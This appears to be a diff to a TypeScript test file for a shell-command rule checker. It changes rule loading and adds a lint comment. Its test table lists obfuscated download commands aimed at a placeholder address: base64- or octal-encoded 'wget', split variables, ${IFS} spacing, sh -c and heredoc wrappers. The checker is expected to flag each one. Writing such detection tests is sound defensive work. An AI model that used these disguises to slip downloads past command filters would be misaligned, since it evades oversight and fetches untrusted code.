@@ -5,7 +5,7 @@ import { readShell } from '../shell/read-shell.ts';
 import { loadRules } from './load-rules.ts';
 
 const folder = new URL('../../../../policy/attack/', import.meta.url).pathname;
-const { rules, match } = loadRules(`${folder}rules`);
+const { rules, match } = loadRules(folder);
 const catalogue = z
   .object({ techniques: z.array(z.object({ id: z.string() })) })
   .parse(JSON.parse(readFileSync(`${folder}catalogue.json`, 'utf8')));
@@ -40,6 +40,7 @@ describe('rules and disguise', () => {
     ['$(echo d2dldA==|base64 -d) http://192.0.2.1/a', 'download'],
     ["$(printf '\\167get') http://192.0.2.1/a", 'download'],
     ['a=wg;b=et;$a$b http://192.0.2.1/a', 'download'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell's own way to write a blank.
     ['wget${IFS}http://192.0.2.1/a', 'download'],
     ["sh -c 'wget http://192.0.2.1/a'", 'download'],
     ['bash <<EOF\nwget http://192.0.2.1/a\nEOF', 'download'],
